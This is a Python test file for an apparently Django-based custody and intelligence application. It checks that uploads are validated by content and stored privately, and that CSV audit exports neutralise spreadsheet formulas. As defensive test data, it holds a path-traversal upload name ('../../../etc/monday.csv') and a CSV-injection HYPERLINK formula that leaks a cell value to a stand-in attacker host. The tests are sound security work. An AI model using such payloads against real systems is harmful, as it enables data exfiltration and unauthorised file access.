"""Uploads are judged by their content, not their name, and stay private; exports neutralise
spreadsheet formulas in what users typed. (The signed OOCD document's checks are tested in
oocd/tests/test_documents.py: HTML renamed .pdf, damaged PDFs and images, the size limit.)"""

import datetime
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from rest_framework.test import APIClient

from custody import tasks
from custody.models import CustodyRecord, IngestRun, RunStatus
from intelligence.tests.factories import InformationRequestFactory
from oocd.tests.factories import image_bytes
from yjs.exports import spreadsheet_safe
from yjs.roles import Role
from yjs.tests.factories import UserFactory

FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,"Click")'


@pytest.fixture(autouse=True)
def private_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "private"
    return settings.MEDIA_ROOT


@pytest.mark.parametrize(
    "content", [image_bytes("PNG"), b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", b"\x7fELF\x02\x01\x01"]
)
def test_a_custody_upload_that_is_not_a_text_extract_loads_nothing_whatever_its_name(
    db, content, private_media, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(tasks.ingest_run_task, "apply_async", lambda args, **kwargs: None)
    client = APIClient()
    client.force_authenticate(UserFactory(roles=[Role.POLICE_OFFICER]))
    upload = SimpleUploadedFile("../../../etc/monday.csv", content, "text/csv")

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/api/v1/custody/ingest-runs/", {"file": upload}, format="multipart")
    assert response.status_code == 202
    run_id = response.json()["id"]
    tasks.ingest_run_task.run(run_id)  # what the worker does

    run = IngestRun.objects.get(pk=run_id)
    assert run.status == RunStatus.FAILED
    assert "nothing was loaded" in run.message or "not UTF-8" in run.message, run.message
    assert not CustodyRecord.objects.exists()
    # Stored under the private root, under a name of the storage's making (no path from the client).
    stored = Path(run.file.path).resolve()
    assert stored.is_relative_to(Path(private_media).resolve() / "custody" / "uploads")
    assert ".." not in run.file.name


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_prefix_is_neutralised(prefix):
    assert spreadsheet_safe(f"{prefix}1+1") == f"'{prefix}1+1"


def test_the_information_request_audit_csv_neutralises_what_users_typed(db, team_north):
    police = UserFactory(roles=[Role.POLICE_OFFICER], teams=[team_north])
    InformationRequestFactory(
        what_requested=FORMULA,
        supplied=True,
        supplied_by=police,
        information_supplied="+44 7700 900123 called at 10pm",
        requested_at=timezone.now() - datetime.timedelta(days=1),
    )
    client = APIClient()
    client.force_authenticate(police)
    today = timezone.localdate()

    response = client.get(
        "/api/v1/intelligence/audit.csv", {"from": (today - datetime.timedelta(days=7)).isoformat(), "to": today}
    )

    assert response.status_code == 200
    body = response.content.decode("utf-8-sig")
    assert f"'{FORMULA}".replace('"', '""') in body
    assert "'+44 7700 900123 called at 10pm" in body
    assert ',"=HYPERLINK' not in body and ",=HYPERLINK" not in body
